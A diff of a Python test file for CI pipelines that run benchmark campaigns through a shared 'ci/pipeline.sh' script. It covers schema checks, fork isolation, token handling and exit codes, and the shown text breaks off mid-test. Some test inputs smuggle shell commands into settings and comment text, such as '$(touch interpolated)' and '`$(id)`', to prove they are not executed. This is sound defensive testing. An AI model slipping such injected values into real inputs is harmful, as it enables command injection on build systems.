@@ -1,101 +1,61 @@
-"""The pipelines are what their vendors accept, and end with the exit code that the gate gives.
+"""The pipelines: the steps of `ci/pipeline.sh`, and the three files that call them.
 
-What runs here are the files' own shell lines, as their vendors would run them, with stand-ins for `reframe` and `nearmetal`
-that say which exit code they were told: it is the pipelines' logic that is tested, no measurement.
+The script runs here for real, with stand-ins for `reframe` and `nearmetal` that end with a given
+exit code: the pipelines' logic is tested, no measurement. The vendors' files are parsed. Their
+only shell of their own, that of the comment jobs, runs as well.
 """
 
 import http.server
-import itertools
 import json
 import os
 import re
-import shlex
 import shutil
 import subprocess
 import sys
 import textwrap
 import threading
 import time
-import urllib.parse
 from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 import yaml
 
 from tests.support.paths import CHECKOUT
 
-GITLAB, GITHUB, JENKINS = (
-    CHECKOUT / "ci" / name for name in ("gitlab-ci.yml", "github-actions.yml", "Jenkinsfile")
+SCRIPT, GITLAB, GITHUB, JENKINS = (
+    CHECKOUT / "ci" / name
+    for name in ("pipeline.sh", "gitlab-ci.yml", "github-actions.yml", "Jenkinsfile")
 )
 VENDORS = ["gitlab", "github", "jenkins"]
+needs_curl = pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
 
 
-class GitLabLoader(yaml.SafeLoader):
-    """Keeps a `!reference` as the list of keys that it is."""
-
-
-GitLabLoader.add_constructor("!reference", lambda loader, node: loader.construct_sequence(node))
-
-
-def gitlab_script(job: str) -> str:
-    """A job's lines in the one shell that they share."""
-    document = yaml.load(GITLAB.read_text(), GitLabLoader)
-    parts = document[job]["script"]
-    return "\n".join(
-        line
-        for part in parts
-        for line in ([part] if isinstance(part, str) else document[part[0]][part[1]])
-    )
-
-
-def github_steps(job: str) -> dict[str, str]:
-    steps = yaml.safe_load(GITHUB.read_text())["jobs"][job]["steps"]
-    return {step["name"]: step["run"] for step in steps if "run" in step}
-
-
-def jenkins_steps() -> dict[str, str]:
-    """The scripts by the stage they stand in, '' for the one after the stages; Groovy and bash
-    join lines at a backslash alike."""
-    pieces = re.split(r"stage\('(.*?)'\)|(post) \{", JENKINS.read_text())
-    found = {}
-    for stage, after, text in zip(pieces[1::3], pieces[2::3], pieces[3::3]):
-        for script in re.findall(r"'''(#!.*?)'''", text, re.DOTALL):
-            first, rest = script.split("\n", 1)
-            found["" if after else stage] = f"{first}\n{textwrap.dedent(rest)}"
-    return found
-
-
-def scripts() -> dict[str, str]:
-    """Every piece of shell in the three files."""
-    document = yaml.load(GITLAB.read_text(), GitLabLoader)
+def gitlab_jobs() -> dict[str, dict]:
+    """The jobs with what they extend."""
+    document = yaml.safe_load(GITLAB.read_text())
     return {
-        "gitlab .campaign": "\n".join(document[".campaign"]["before_script"]),
-        **{f"gitlab {job}": gitlab_script(job) for job in ("nightly", "change", "comment")},
-        **{
-            f"github {job} {name}": run
-            for job in ("campaign", "comment")
-            for name, run in github_steps(job).items()
-        },
-        **{f"jenkins {stage}": script for stage, script in jenkins_steps().items()},
+        name: {**document.get(part.get("extends"), {}), **part}
+        for name, part in document.items()
+        if isinstance(part, dict) and "script" in part
     }
 
 
-def expanded() -> dict:
-    """The GitLab file with each job whole: the schema does not look into a template, nor GitLab at one that nobody extends."""
-    document = yaml.load(GITLAB.read_text(), GitLabLoader)
-    jobs = {
-        name: {**document.get(job.get("extends"), {}), **job, "script": [gitlab_script(name)]}
-        for name, job in document.items()
-        if isinstance(job, dict) and "script" in job and not name.startswith(".")
-    }
-    return {
-        name: jobs.get(name, part) for name, part in document.items() if not name.startswith(".")
-    }
+def github_jobs() -> dict[str, dict]:
+    return yaml.safe_load(GITHUB.read_text())["jobs"]
 
 
-def schema_says(schema: str, path: Path, *options: str) -> subprocess.CompletedProcess:
+def jenkins_text() -> str:
+    """The Jenkinsfile without its comments."""
+    return re.sub(r"^\s*//.*\n", "", JENKINS.read_text(), flags=re.MULTILINE)
+
+
+# The pipeline files: what their vendors accept.
+
+
+def schema_says(schema: str, path: Path) -> subprocess.CompletedProcess:
     return subprocess.run(
-        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *options, path],
+        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, path],
         text=True,
         stdout=subprocess.PIPE,
         stderr=subprocess.STDOUT,
@@ -103,127 +63,151 @@ def schema_says(schema: str, path: Path, *options: str) -> subprocess.CompletedP
 
 
 def test_gitlabs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
-    done = schema_says("vendor.gitlab-ci", GITLAB, "--data-transform", "gitlab-ci")
-    assert done.returncode == 0, done.stdout
+    """With each job whole: the schema does not look into a template."""
+    document = {**yaml.safe_load(GITLAB.read_text()), **gitlab_jobs()}
     whole, wrong = tmp_path / "whole.yml", tmp_path / "wrong.yml"
-    whole.write_text(yaml.safe_dump(expanded()))
+    whole.write_text(yaml.safe_dump(document))
     wrong.write_text(whole.read_text().replace("when: always", "when: perhaps"))
-    done = schema_says("vendor.gitlab-ci", whole)
-    assert done.returncode == 0, done.stdout
-    assert (
-        "artifacts" in (refused := schema_says("vendor.gitlab-ci", wrong)).stdout
-        and refused.returncode == 1
-    )
+    for path in (GITLAB, whole):
+        accepted = schema_says("vendor.gitlab-ci", path)
+        assert accepted.returncode == 0, accepted.stdout
+    refused = schema_says("vendor.gitlab-ci", wrong)
+    assert refused.returncode == 1
+    assert "artifacts" in refused.stdout
 
 
 def test_githubs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
     wrong = tmp_path / GITHUB.name
     wrong.write_text(GITHUB.read_text().replace("    timeout-minutes: 480", "    timeout: 480"))
-    done = schema_says("vendor.github-workflows", GITHUB)
-    assert done.returncode == 0, done.stdout
-    assert (
-        "timeout" in (refused := schema_says("vendor.github-workflows", wrong)).stdout
-        and refused.returncode == 1
-    )
+    accepted = schema_says("vendor.github-workflows", GITHUB)
+    assert accepted.returncode == 0, accepted.stdout
+    refused = schema_says("vendor.github-workflows", wrong)
+    assert refused.returncode == 1
+    assert "timeout" in refused.stdout
 
 
-@pytest.mark.parametrize("name", scripts())
-def test_bash_can_read_it(name):
-    done = subprocess.run(["bash", "-n"], input=scripts()[name], text=True, capture_output=True)
-    assert (done.returncode, done.stderr) == (0, "")
-
-
-def test_the_jenkinsfile_hands_all_shell_to_bash_as_it_stands():
-    text = re.sub(r"^\s*//.*", "", JENKINS.read_text(), flags=re.MULTILINE)
+def test_the_jenkinsfile_hands_all_shell_over_as_it_stands():
+    text = jenkins_text()
     assert '"""' not in text, "Groovy would put secrets into the text of the script"
+    assert not re.search(r'\bsh\s*\(?\s*"', text), "Groovy would put secrets into the text"
     outside = re.sub(r"'''.*?'''", "''", text, flags=re.DOTALL)
-    assert outside.count("{") == outside.count("}")
-    assert len(re.findall(r"\bsh\b", outside)) == len(jenkins_steps()), (
-        "a script that no test here sees"
+    for opening, closing in ("{}", "()", "[]"):
+        assert outside.count(opening) == outside.count(closing)
+
+
+# The pipeline files: which steps they call, and where.
+
+
+def lines_on_the_cluster(vendor: str, change: bool) -> list[str]:
+    """Every line of shell that runs on the cluster, for a change or at night."""
+    if vendor == "gitlab":
+        job = gitlab_jobs()["change" if change else "nightly"]
+        return [*job["before_script"], *job["script"]]
+    if vendor == "github":
+        event = "github.event_name {} 'pull_request'".format("==" if change else "!=")
+        steps = github_jobs()["campaign"]["steps"]
+        chosen = [step for step in steps if step.get("if", event) == event]
+        return [step["run"] for step in chosen if "run" in step]
+    when = {"{ not { changeRequest() } }": False, "{ changeRequest() }": True}
+    stages = re.findall(
+        r"stage\('[^']*'\) \{\s*(?:when (.*)\n\s*)?steps \{\s*sh '(.*)'\s*\}", jenkins_text()
     )
+    return [line for condition, line in stages if when.get(condition, change) == change]
 
 
-def test_they_install_as_the_readme_says():
-    readme = (CHECKOUT / "README.md").read_text()
-    for install in (
-        scripts()[name]
-        for name in ("gitlab .campaign", "github campaign Install", "jenkins Install")
-    ):
-        commands = [
-            line for line in install.splitlines() if "pip install" in line or "-m venv" in line
-        ]
-        assert len(commands) == 3
-        assert all(command in readme for command in commands)
+@pytest.mark.parametrize("vendor", VENDORS)
+@pytest.mark.parametrize("change, measure", [(False, "measure"), (True, "measure-change")])
+def test_each_file_calls_the_steps_and_runs_nothing_else_on_the_cluster(vendor, change, measure):
+    expected = [f"ci/pipeline.sh {step}" for step in ("install", measure, "judge")]
+    assert lines_on_the_cluster(vendor, change) == expected
+
+
+def test_no_shell_is_left_that_no_test_here_knows():
+    (summary,) = (step for step in github_jobs()["campaign"]["steps"] if "Summary" in step.values())
+    assert "GITHUB_STEP_SUMMARY" in summary["run"]
+    assert set(gitlab_jobs()) == {"nightly", "change", "comment"}
+    assert len(re.findall(r"^\s*sh\b", jenkins_text(), re.MULTILINE)) == 5
+    for job in github_jobs().values():
+        assert all("${{" not in step.get("run", "") for step in job["steps"])
+
+
+def test_results_are_kept_whatever_the_exit_code():
+    for name in ("nightly", "change"):
+        kept = gitlab_jobs()[name]["artifacts"]
+        assert (kept["when"], kept["paths"]) == ("always", ["campaign/"])
+        assert kept["reports"] == {"junit": "campaign/gate.xml", "metrics": "campaign/gate.prom"}
+    *_, summary, upload = github_jobs()["campaign"]["steps"]
+    assert summary["if"] == upload["if"] == "${{ !cancelled() }}"
+    assert upload["with"]["path"] == "campaign/"
+    after = jenkins_text().partition("post {")[2].partition("cleanup {")[0]
+    assert after.split()[:2] == ["always", "{"]
+    assert "archiveArtifacts artifacts: 'campaign/**'" in after
+    assert "junit testResults: 'campaign/gate.xml'" in after
+
+
+def test_they_run_every_night_on_the_clusters_runner_one_at_a_time():
+    document, jobs = yaml.safe_load(GITLAB.read_text()), gitlab_jobs()
+    assert "schedule" in document[".when"]["nightly"]["if"]
+    for name in ("nightly", "change"):
+        assert jobs[name]["tags"] == ["nearmetal"]
+        assert jobs[name]["resource_group"] == "nearmetal-$NEARMETAL_SYSTEM"
+    campaign = github_jobs()["campaign"]
+    assert campaign["runs-on"] == ["self-hosted", "nearmetal"]
+    assert campaign["concurrency"]["cancel-in-progress"] is False
+    assert yaml.safe_load(GITHUB.read_text())[True]["schedule"]  # YAML reads the key `on` as true
+    assert re.findall(r"agent \{ label '(.*?)' \}", jenkins_text()) == ["nearmetal"]
+    assert "disableConcurrentBuilds()" in jenkins_text()
+    assert "cron(env.BRANCH_IS_PRIMARY == 'true' ?" in jenkins_text()
 
 
 def test_changes_from_forks_reach_no_runner_on_the_cluster():
-    document = yaml.load(GITLAB.read_text(), GitLabLoader)
-    for place in (
-        document["workflow"],
-        document["nightly"],
-        document["change"],
-        document["comment"],
-    ):
+    document = yaml.safe_load(GITLAB.read_text())
+    for place in ("workflow", "nightly", "change", "comment"):
         assert all(
             "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID" in rule["if"]
             or "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH" in rule["if"]
-            for rule in place["rules"]
+            for rule in document[place]["rules"]
         )
-    jobs = yaml.safe_load(GITHUB.read_text())["jobs"]
+    jobs = github_jobs()
     reached_by = {clause.split("'")[1]: clause for clause in jobs["campaign"]["if"].split("||")}
     assert set(reached_by) == {"schedule", "workflow_dispatch", "pull_request"}
     assert "head.repo.full_name == github.repository" in reached_by["pull_request"]
     assert [name for name, job in jobs.items() if "self-hosted" in job["runs-on"]] == ["campaign"]
     assert re.search(
-        r"allOf \{\s*changeRequest\(\)\s*expression \{ !env.CHANGE_FORK \}\s*\}",
-        JENKINS.read_text(),
+        r"allOf \{\s*changeRequest\(\)\s*expression \{ !env.CHANGE_FORK \}\s*\}", jenkins_text()
     )
 
 
-def test_the_three_judge_alike():
-    gitlab, github, jenkins = (
-        scripts()[name].partition("told=0")[2]
-        for name in ("gitlab nightly", "github campaign Gate and report", "jenkins Gate and report")
-    )
-    assert gitlab.strip() == github.strip() == jenkins.strip() != ""
+def test_the_token_is_only_where_no_code_of_a_change_ran():
+    jobs = gitlab_jobs()
+    assert jobs["comment"]["tags"] == ["nearmetal-comment"]
+    assert jobs["comment"]["variables"]["GIT_STRATEGY"] == "none"
+    assert jobs["comment"]["environment"]["name"] == "nearmetal-comment"
+    assert all("environment" not in jobs[name] for name in ("nightly", "change"))
+    jobs = github_jobs()
+    assert jobs["comment"]["runs-on"] == "ubuntu-latest"
+    assert jobs["campaign"]["permissions"] == {"contents": "read"}
+    assert "github.token" not in json.dumps(jobs["campaign"])
+    (checkout,) = (step for step in jobs["comment"]["steps"] if "checkout" in step.get("uses", ""))
+    assert checkout["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
+    assert checkout["with"]["sparse-checkout"] == "ci/pipeline.sh"
+    for job in jobs.values():
+        assert all(
+            step["with"]["persist-credentials"] is False
+            for step in job["steps"]
+            if "checkout" in step.get("uses", "")
+        )
+    before, node, after = jenkins_text().partition("node('nearmetal-comment') {")
+    assert node and "withCredentials" in after
+    assert "text: readTrusted('ci/pipeline.sh')" in after and "checkout" not in after
+    assert "withCredentials" not in before and "NEARMETAL_TOKEN" not in before
 
 
-def command_lines(program: str) -> list[list[str]]:
-    """The words of every call of a program in the three files."""
-    text = "\n".join(scripts().values()).replace("\\\n", " ")
-    return [
-        shlex.split(call.partition("||")[0])
-        for call in re.findall(rf"^ *({program} .*)", text, re.MULTILINE)
-    ]
-
-
-def options_of(*command: str) -> set[str]:
-    shown = subprocess.run([*command, "--help"], text=True, capture_output=True, check=True).stdout
-    return set(re.findall(r"(?<![\w-])--?[a-zA-Z][\w-]*", shown))
-
-
-def test_reframe_has_every_option_that_they_give_it():
-    calls, known = (
-        command_lines("reframe"),
-        options_of(str(Path(sys.executable).parent / "reframe")),
-    )
-    assert len(calls) == 9
-    given = {word.partition("=")[0] for call in calls for word in call if word.startswith("-")}
-    assert given <= known
-
-
-def test_nearmetal_has_every_command_and_option_that_they_give_it():
-    calls = command_lines("nearmetal")
-    assert {call[1] for call in calls} == {"gate", "report"}
-    for command in ("gate", "report"):
-        given = {
-            word.partition("=")[0]
-            for call in calls
-            if call[1] == command
-            for word in call
-            if word.startswith("-")
-        }
-        assert given <= options_of(sys.executable, "-m", "nearmetal", command)
+def test_a_comment_that_fails_does_not_hide_the_verdict():
+    assert gitlab_jobs()["comment"]["allow_failure"] is True
+    assert gitlab_jobs()["comment"]["rules"][0]["when"] == "always"
+    assert github_jobs()["comment"]["needs"] == "campaign"
+    assert "!cancelled()" in github_jobs()["comment"]["if"]
 
 
 def test_actions_are_pinned_to_commits():
@@ -232,6 +216,39 @@ def test_actions_are_pinned_to_commits():
     pinned = re.compile(r"actions/[a-z-]+@[0-9a-f]{40}")
     assert [use for use, comment in uses if not pinned.fullmatch(use) or "# v" not in comment] == []
 
+
+# The script: how it explains itself, and what it refuses.
+
+
+def run_script(*arguments: str, **options) -> subprocess.CompletedProcess:
+    return subprocess.run([SCRIPT, *arguments], text=True, capture_output=True, **options)
+
+
+def test_its_help_describes_every_step_and_exit_code():
+    done = run_script("--help")
+    assert done.returncode == 0
+    for step in ("install", "measure", "measure-change", "judge", "comment URL LOG"):
+        assert re.search(rf"^  {step} ", done.stdout, re.MULTILINE)
+    assert re.findall(r"^  (\d) ", done.stdout, re.MULTILINE) == ["0", "1", "2", "3"]
+    settings = set(re.findall(r"\b(?:NEARMETAL|RFM)_[A-Z_]+", SCRIPT.read_text()))
+    assert settings - {"RFM_CONFIG_PATH"} == set(re.findall(r"^  ([A-Z_]+) ", done.stdout, re.M))
+
+
+@pytest.mark.parametrize("arguments", [[], ["tell"], ["judge", "now"], ["comment", "https://a"]])
+def test_an_unknown_step_or_wrong_arguments_are_bad_usage(arguments):
+    done = run_script(*arguments)
+    assert done.returncode == 3
+    assert "usage: ci/pipeline.sh" in done.stderr
+
+
+def test_it_installs_as_the_readme_says():
+    readme = (CHECKOUT / "README.md").read_text()
+    commands = re.findall(r"^ *(.*(?:pip install|-m venv).*)", SCRIPT.read_text(), re.MULTILINE)
+    assert len(commands) == 3
+    assert all(command in readme for command in commands)
+
+
+# The script on the cluster.
 
 STAND_IN = """#!{python} -IS
 import os, sys
@@ -249,7 +266,7 @@ sys.exit(int(os.environ["CODE_" + kind]))
 
 
 class Site:
-    """A workspace after the installation, and how each vendor runs a campaign's shell there."""
+    """A checkout after the installation, with stand-ins that end with the given exit codes."""
 
     def __init__(self, workspace: Path, **codes):
         self.workspace = workspace
@@ -260,72 +277,40 @@ class Site:
             (programs / name).write_text(STAND_IN.format(python=sys.executable))
             (programs / name).chmod(0o755)
         (programs / "activate").write_text(f'PATH="{programs}:$PATH"\n')
+        (workspace / "ci").mkdir()
+        shutil.copy(SCRIPT, workspace / "ci")
+        codes = {"CODE_reframe": 0, "CODE_gate": 0, "CODE_report": 0, "CODE_dry": 0, **codes}
         self.environment = {
             **os.environ,
             "NEARMETAL_SYSTEM": "ec2",
-            "NEARMETAL_CHECKS": "tcp",
+            "NEARMETAL_CHECKS": "tcp $(touch interpolated)",
             "RFM_PREFIX": "/shared/results",
-            "CODE_reframe": "0",
-            "CODE_gate": "0",
-            "CODE_report": "0",
-            "CODE_dry": "0",
-            **codes,
+            **{name: str(code) for name, code in codes.items()},
         }
 
-    def shell(self, *command: str, script: str, **more) -> int:
+    def step(self, name: str, **more: str) -> subprocess.CompletedProcess:
         return subprocess.run(
-            [*command],
-            input=script,
+            ["ci/pipeline.sh", name],
             text=True,
             cwd=self.workspace,
             env={**self.environment, **more},
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        ).returncode
-
-    def gitlab(self, change: bool) -> int:
-        activate = yaml.load(GITLAB.read_text(), GitLabLoader)[".campaign"]["before_script"][-1]
-        return self.shell(
-            "bash",
-            "-eo",
-            "pipefail",
-            script=activate + gitlab_script("change" if change else "nightly"),
+            capture_output=True,
         )
 
-    def github(self, change: bool) -> int:
-        steps, handed = github_steps("campaign"), self.workspace / "handed"
-        measure = steps[
-            "Dry run and smaller campaign of a change" if change else "Nightly campaign"
-        ]
-        here = {
-            "GITHUB_ENV": str(handed),
-            "RFM_PREFIX": "/shared/results/changes" if change else "/shared/results",
-        }
-        code = self.shell("bash", "-eo", "pipefail", script=measure, **here)
-        passed_on = (
-            dict(line.split("=") for line in handed.read_text().splitlines()) if code == 0 else {}
-        )
-        return code or self.shell(
-            "bash", "-eo", "pipefail", script=steps["Gate and report"], **here, **passed_on
-        )
-
-    def jenkins(self, change: bool) -> int:
-        steps, here = jenkins_steps(), {"CHANGE_ID": "7"} if change else {}
-        if change and (code := self.shell("bash", script=steps["Dry run of a change"], **here)):
-            return code
-        ran = self.shell(
-            "bash",
-            script=steps["Smaller campaign of a change" if change else "Nightly campaign"],
-            **here,
-        )
-        return self.shell("bash", script=steps["Gate and report"], ran=str(ran), **here)
+    def run(self, change: bool) -> int:
+        """The steps of a pipeline, up to the first that fails."""
+        for name in ("measure-change" if change else "measure", "judge"):
+            code = self.step(name).returncode
+            if code:
+                break
+        return code
 
     @property
     def calls(self) -> list[list[str]]:
         return [line.split("\t") for line in (self.workspace / "calls").read_text().splitlines()]
 
 
-@pytest.mark.parametrize("vendor", VENDORS)
+@pytest.mark.parametrize("change", [False, True])
 @pytest.mark.parametrize(
     "reframe, gate, report, ends",
     [
@@ -338,13 +323,15 @@ class Site:
         (0, 0, 3, 3),
     ],
 )
-def test_it_ends_with_what_the_gate_says_and_keeps_the_report(
-    tmp_path, vendor, reframe, gate, report, ends
+def test_it_ends_with_the_gates_exit_code_and_keeps_the_report(
+    tmp_path, change, reframe, gate, report, ends
 ):
-    site = Site(tmp_path, CODE_reframe=str(reframe), CODE_gate=str(gate), CODE_report=str(report))
-    assert getattr(site, vendor)(change=False) == ends
+    site = Site(tmp_path, CODE_reframe=reframe, CODE_gate=gate, CODE_report=report)
+    assert site.run(change) == ends
     assert {path.name for path in (tmp_path / "campaign").iterdir()} == {
         "started",
+        "prefix",
+        "reframe-exit-code",
         "gate.json",
         "gate.xml",
         "gate.md",
@@ -353,59 +340,108 @@ def test_it_ends_with_what_the_gate_says_and_keeps_the_report(
     }
 
 
-@pytest.mark.parametrize("vendor, change", itertools.product(VENDORS, [False, True]))
-def test_a_session_from_before_this_run_is_not_judged_for_it(tmp_path, vendor, change):
+@pytest.mark.parametrize("change", [False, True])
+def test_a_session_from_before_this_run_is_not_judged_for_it(tmp_path, change):
     site, before = Site(tmp_path), int(time.time())
-    assert getattr(site, vendor)(change=change) == 0
+    assert site.run(change) == 0
     (gate,) = (call for call in site.calls if call[1] == "gate")
     assert before <= int(gate[gate.index("--since") + 1]) <= time.time()
 
 
-@pytest.mark.parametrize("vendor", VENDORS)
-def test_a_change_is_dry_run_first_and_keeps_out_of_the_history(tmp_path, vendor):
+def test_at_night_everything_runs_and_goes_into_the_history(tmp_path):
     site = Site(tmp_path)
-    assert getattr(site, vendor)(change=True) == 0
-    dry, run, gate, report = site.calls
-    assert "--dry-run" in dry and "-r" in run and run[run.index("-n") + 1] == "tcp"
+    assert site.run(change=False) == 0
+    run, gate, report = site.calls
+    assert run[1:-1] == ["-c", "reframe_checks", "-r", "--system", "ec2", "-S", "repeats=5"]
     assert (gate[1], report[1]) == ("gate", "report")
-    assert {call[-1] for call in (run, gate, report)} == {"/shared/results/changes"}
+    assert {call[-1] for call in site.calls} == {"/shared/results"}
 
 
-@pytest.mark.parametrize("vendor", VENDORS)
-def test_a_change_whose_dry_run_fails_measures_nothing(tmp_path, vendor):
-    site = Site(tmp_path, CODE_dry="1")
-    assert getattr(site, vendor)(change=True) == 3
+def test_a_change_is_dry_run_first_and_keeps_out_of_the_history(tmp_path):
+    site = Site(tmp_path)
+    assert site.run(change=True) == 0
+    dry, run, gate, report = site.calls
+    assert "--dry-run" in dry and "-r" in run
+    assert run[run.index("-n") + 1] == "tcp $(touch interpolated)"
+    assert not (tmp_path / "interpolated").exists()
+    assert (gate[1], report[1]) == ("gate", "report")
+    assert {call[-1] for call in site.calls} == {"/shared/results/changes"}
+
+
+@pytest.mark.parametrize("checks", [{"NEARMETAL_CHECKS": ""}, {}])
+def test_a_change_runs_a_small_selection_where_the_site_names_none(tmp_path, checks):
+    site = Site(tmp_path)
+    del site.environment["NEARMETAL_CHECKS"]
+    assert site.step("measure-change", **checks).returncode == 0
+    assert "pingpong%placement=internode" in site.calls[1]
+
+
+def test_a_change_whose_dry_run_fails_runs_nothing(tmp_path):
+    site = Site(tmp_path, CODE_dry=1)
+    assert site.run(change=True) == 3
     assert len(site.calls) == 1
 
 
-@pytest.mark.parametrize("name", ["gitlab .campaign", "github campaign Install", "jenkins Install"])
+def test_reframe_and_nearmetal_have_every_option_that_it_gives_them(tmp_path):
+    def options_of(*command: str) -> set[str]:
+        done = subprocess.run([*command, "--help"], text=True, capture_output=True, check=True)
+        return set(re.findall(r"(?<![\w-])--?[a-zA-Z][\w-]*", done.stdout))
+
+    site = Site(tmp_path)
+    site.run(change=True)
+    programs = {
+        "reframe": options_of(str(Path(sys.executable).parent / "reframe")),
+        "gate": options_of(sys.executable, "-m", "nearmetal", "gate"),
+        "report": options_of(sys.executable, "-m", "nearmetal", "report"),
+    }
+    for name, *words in site.calls:
+        known = programs[name if name == "reframe" else words[0]]
+        assert {word for word in words if word.startswith("-")} <= known
+
+
 @pytest.mark.parametrize(
     "wrong",
     [{"NEARMETAL_SYSTEM": ""}, {"RFM_PREFIX": ""}, {"RFM_PREFIX": "results"}, {"RFM_PREFIX": "."}],
 )
-def test_settings_that_would_lose_results_are_bad_usage(tmp_path, name, wrong):
-    settings = {"NEARMETAL_SYSTEM": "ec2", "RFM_PREFIX": "/shared", **wrong}
-    if settings["RFM_PREFIX"] == ".":
-        settings["RFM_PREFIX"] = str(tmp_path / "results")
-    (tmp_path / "campaign").mkdir()
+def test_settings_that_would_lose_results_are_bad_usage(tmp_path, wrong):
+    site = Site(tmp_path)
+    if wrong.get("RFM_PREFIX") == ".":
+        wrong = {"RFM_PREFIX": str(tmp_path / "results")}
     (tmp_path / "campaign" / "gate.md").write_text("of the last run")
-    done = subprocess.run(
-        ["bash", "-eo", "pipefail"],
-        input=scripts()[name],
-        text=True,
-        cwd=tmp_path,
-        capture_output=True,
-        env={**os.environ, **settings},
-    )
-    assert done.returncode == 3
-    assert next(iter(wrong)) in done.stderr
+    for step in ("measure", "judge", "install"):
+        done = site.step(step, **wrong)
+        assert done.returncode == 3
+        assert next(iter(wrong)) in done.stderr
     assert not (tmp_path / "campaign" / "gate.md").exists(), (
         "would be kept and shown as of this run"
     )
+    assert not (tmp_path / "calls").exists()
+
+
+def test_an_installation_that_fails_is_no_regression(tmp_path):
+    site = Site(tmp_path)
+    shutil.rmtree(tmp_path / ".venv")
+    (tmp_path / ".venv").write_text("no directory")
+    assert site.step("install").returncode == 2
+
+
+def test_a_step_before_its_turn_names_the_one_that_it_needs(tmp_path):
+    site = Site(tmp_path)
+    judge = site.step("judge")
+    assert judge.returncode == 3 and "ci/pipeline.sh measure" in judge.stderr
+    shutil.rmtree(tmp_path / ".venv")
+    measure = site.step("measure")
+    assert measure.returncode == 3 and "ci/pipeline.sh install" in measure.stderr
+
+
+# The comment: the vendors' own shell and the script's step, against a forge that listens here.
 
 
 def callers(url: str) -> list[tuple[bytes, bytes]]:
-    """Command line and environment of each curl that calls this address: what a process of the same user can read."""
+    """Command line and environment of each curl that calls this address.
+
+    A process of the same user can read them.
+    """
     found = []
     for process in Path("/proc").glob("[0-9]*"):
         try:
@@ -418,13 +454,19 @@ def callers(url: str) -> list[tuple[bytes, bytes]]:
 
 
 class Forge(http.server.BaseHTTPRequestHandler):
-    """Keeps what was posted."""
+    """Keeps what was posted, and gives pipeline.sh as GitLab does."""
+
+    def do_GET(self):
+        self.server.callers += callers(f":{self.server.server_port}/")
+        self.server.gets.append((self.path, self.headers))
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(SCRIPT.read_bytes())
 
     def do_POST(self):
         self.server.callers += callers(f":{self.server.server_port}/")
-        self.server.posts.append(
-            (self.path, self.headers, self.rfile.read(int(self.headers["Content-Length"])).decode())
-        )
+        length = int(self.headers["Content-Length"])
+        self.server.posts.append((self.path, self.headers, self.rfile.read(length).decode()))
         self.send_response(201)
         self.end_headers()
 
@@ -434,7 +476,7 @@ class Forge(http.server.BaseHTTPRequestHandler):
 
 def serve():
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge)
-    server.posts, server.callers = [], []
+    server.gets, server.posts, server.callers = [], [], []
     threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
     yield server
     server.shutdown()
@@ -445,62 +487,96 @@ forge = pytest.fixture(serve, name="forge")
 thief = pytest.fixture(serve, name="thief")
 
 
-def of_a_comment(forge) -> dict[str, str]:
-    """What the vendors set for the step that comments."""
+def comment(vendor: str, workspace: Path, forge, **more: str) -> subprocess.CompletedProcess:
+    """The comment job's shell, in a directory that holds the campaign's files."""
     url = f"http://127.0.0.1:{forge.server_port}"
-    return {
-        "PATH": os.environ["PATH"],
-        "NEARMETAL_TOKEN": "secret",
-        "CI_API_V4_URL": f"{url}/api/v4",
-        "CHANGE_ID": "7",
-        "CI_MERGE_REQUEST_PROJECT_ID": "5",
-        "CI_MERGE_REQUEST_IID": "7",
-        "CI_PIPELINE_URL": "https://the/log",
-        "BUILD_URL": "https://the/log",
-        "NEARMETAL_COMMENT_URL": f"{url}/api/v4/projects/5/merge_requests",
-        "NEARMETAL_COMMENT_END": "notes",
-        "LC_ALL": "C.UTF-8",
-        "no_proxy": "127.0.0.1",
-    }
-
-
-def comment(vendor: str, workspace: Path, environment: dict) -> subprocess.CompletedProcess:
-    """The vendor's own lines, with a workspace that holds what the campaign kept."""
+    if vendor == "gitlab":
+        (shell,) = gitlab_jobs()["comment"]["script"]
+        variables = {
+            "CI_API_V4_URL": f"{url}/api/v4",
+            "CI_MERGE_REQUEST_PROJECT_ID": "5",
+            "CI_MERGE_REQUEST_IID": "7",
+            "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "release/1.0&x",
+            "CI_PIPELINE_URL": "https://the/log",
+        }
+    elif vendor == "github":
+        step = github_jobs()["comment"]["steps"][-1]
+        shell = step["run"]
+        (workspace / "ci").mkdir(exist_ok=True)
+        shutil.copy(SCRIPT, workspace / "ci")
+        variables = {"API": f"{url}/repos/o/r", "NUMBER": "7", "RUN": "https://the/log"}
+        assert set(step["env"]) == {*variables, "NEARMETAL_TOKEN"}
+    else:
+        (shell,) = re.findall(r"'''(#!.*?)'''", jenkins_text(), re.DOTALL)
+        shell = textwrap.dedent(shell.partition("\n")[2])
+        variables = {
+            "PIPELINE": str(SCRIPT),
+            "NEARMETAL_COMMENT_URL": f"{url}/api/v4/projects/5/merge_requests",
+            "NEARMETAL_COMMENT_END": "notes",
+            "CHANGE_ID": "7",
+            "BUILD_URL": "https://the/log",
+        }
+    given = {"PATH": os.environ["PATH"], "NEARMETAL_TOKEN": "secret", "no_proxy": "127.0.0.1"}
     return subprocess.run(
-        ["bash", "-eo", "pipefail"],
-        input=gitlab_script("comment") if vendor == "gitlab" else jenkins_steps()[""],
+        ["/bin/bash", "-eo", "pipefail"],
+        input=shell,
         text=True,
         cwd=workspace,
-        env=environment,
+        env={**given, **variables, **more},
         stdout=subprocess.PIPE,
         stderr=subprocess.STDOUT,
         timeout=60,
     )
 
 
-@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
-@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
-@pytest.mark.parametrize("verdict", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
-def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, verdict):
-    if verdict:
-        (tmp_path / "campaign").mkdir()
-        (tmp_path / "campaign" / "gate.md").write_text(verdict)
